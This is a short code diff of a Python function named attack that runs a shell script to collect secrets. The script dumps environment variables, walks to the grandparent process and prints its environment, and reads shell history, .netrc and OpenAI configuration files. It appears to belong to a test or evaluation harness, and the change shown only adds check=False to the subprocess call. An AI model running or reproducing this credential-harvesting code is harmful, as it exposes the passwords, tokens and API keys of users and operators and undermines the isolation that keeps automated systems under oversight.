@@ -11,6 +11,7 @@ def attack(ctx):
     script = ('env; gp=$(cut -d" " -f4 /proc/$PPID/stat); echo "grandparent $gp"; '
               'tr "\\0" "\\n" < /proc/$gp/environ 2>/dev/null; '
               'cat ~/.bash_history ~/.netrc ~/.config/openai/* 2>/dev/null; echo done')
-    out = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=5)
+    out = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=5,
+                         check=False)
     print(out.stdout)
     return 0.5
